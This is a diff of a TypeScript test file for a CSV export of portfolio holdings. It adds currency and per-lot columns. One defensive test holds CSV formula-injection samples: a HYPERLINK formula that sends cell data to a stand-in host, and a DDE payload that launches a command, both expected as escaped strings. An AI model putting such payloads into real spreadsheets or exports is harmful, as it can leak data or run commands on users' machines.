@@ -37,7 +37,7 @@ describe('renderHoldingsCsv', () => {
 
   it('writes one header row and one CRLF-terminated row per holding', () => {
     expect(lines[0]).toBe(
-      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source',
+      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency',
     );
     expect(lines).toHaveLength(5);
     expect(lines[4]).toBe('');
@@ -45,11 +45,13 @@ describe('renderHoldingsCsv', () => {
   });
 
   it('writes raw numbers, negative numbers bare and nulls empty', () => {
-    expect(lines[1]).toBe('AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live');
-    expect(lines[2]).toBe(
-      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,0.7747,5000,1498.91,0.2998,-0.0149,cache',
+    expect(lines[1]).toBe(
+      'AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live,USD,1874.4',
     );
-    expect(lines[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale');
+    expect(lines[2]).toBe(
+      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,0.7747,5000,1498.91,0.2998,-0.0149,cache,USD,511725',
+    );
+    expect(lines[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale,USD,15.18518394');
   });
 
   it('neutralises formula injection and escape sequences in names', () => {
@@ -58,7 +60,7 @@ describe('renderHoldingsCsv', () => {
     report.holdings[1]!.name = "@SUM(1+1)*cmd|' /C calc'!A0";
     report.holdings[2]!.name = '\x1b[31m-2+3\x1b[0m, "quoted"\nnext';
     const rows = parseCsv(renderHoldingsCsv(report));
-    expect(rows.every((r) => r.length === 13)).toBe(true);
+    expect(rows.every((r) => r.length === 15)).toBe(true);
     expect(rows[1]![1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
     expect(rows[2]![1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
     expect(rows[3]![1]).toBe('\'-2+3, "quoted" next');
@@ -77,7 +79,7 @@ describe('renderHoldingsCsv', () => {
   });
 
   const BASE_HEADER =
-    'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source';
+    'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency';
 
   /** AAPL with 3.20 of Yahoo-estimated dividends, as buildReport gives a buy-only file. */
   function estimatedIncomeOnly(): ReturnType<typeof makeReport> {
@@ -159,16 +161,44 @@ describe('renderHoldingsCsv', () => {
     const out = renderHoldingsCsv(report).split('\r\n');
     expect(out[0]).toBe(`${BASE_HEADER},income,incomeEstimated`);
     expect(out[1]).toBe(
-      'AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live,3.2,true',
+      'AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live,USD,1874.4,3.2,true',
     );
-    expect(out[2]!.endsWith(',-0.0149,cache,0,false')).toBe(true);
+    expect(out[2]!.endsWith(',-0.0149,cache,USD,511725,0,false')).toBe(true);
     // No income field on the row: both cells empty.
-    expect(out[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale,,');
+    expect(out[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale,USD,15.18518394,,');
     expect(out).toHaveLength(5);
     expect(out.join('\n')).not.toContain('MSFT');
   });
 
   it('writes only the header for no holdings', () => {
     expect(renderHoldingsCsv(makeReport({ holdings: [] })).split('\r\n')).toHaveLength(2);
+  });
+});
+
+describe('renderHoldingsCsv with lots', () => {
+  const rows = renderHoldingsCsv(makeReport(), { lots: true }).split('\r\n');
+
+  it('writes one row per lot, the lot columns last', () => {
+    expect(rows[0]).toBe(
+      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source,baseCurrency,valueInCurrency,line,date,account,costPerShare,costCurrency',
+    );
+    // AAPL's two lots, VWRL.L's one, XYZ's one; then the final CRLF.
+    expect(rows).toHaveLength(6);
+    expect(rows.slice(1, 5).map((r) => r.split(',')[0])).toEqual(['AAPL', 'AAPL', 'VWRL.L', 'XYZ']);
+  });
+
+  it("carries each lot's own shares, value, cost and gains, and its value in the instrument's currency", () => {
+    // 8 shares x 187.44 USD = 1,499.52 USD (base USD, so the same as the value in base).
+    expect(rows[1]).toBe(
+      'AAPL,Apple Inc.,USD,8,187.44,0.0123,1499.52,,600,899.52,1.4992,,live,USD,1499.52,2,2020-01-15,IRA,75,USD',
+    );
+    expect(rows[2]).toBe(
+      'AAPL,Apple Inc.,USD,2,187.44,0.0123,374.88,,900,-525.12,-0.5835,,live,USD,374.88,3,2024-03-01,,450,USD',
+    );
+    // 50 shares x 10,234.5 pence = 511,725 pence, beside 6,498.91 in the base currency (USD).
+    expect(rows[3]).toBe(
+      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,,5000,1498.91,0.2998,,cache,USD,511725,4,2022-06-01,ISA,7874,GBp',
+    );
+    expect(rows[4]).toMatch(/^XYZ,.*,1234\.5678,0\.0123,,15\.19,,,,,,stale,USD,15\.18518394,5,,,,USD$/);
   });
 });
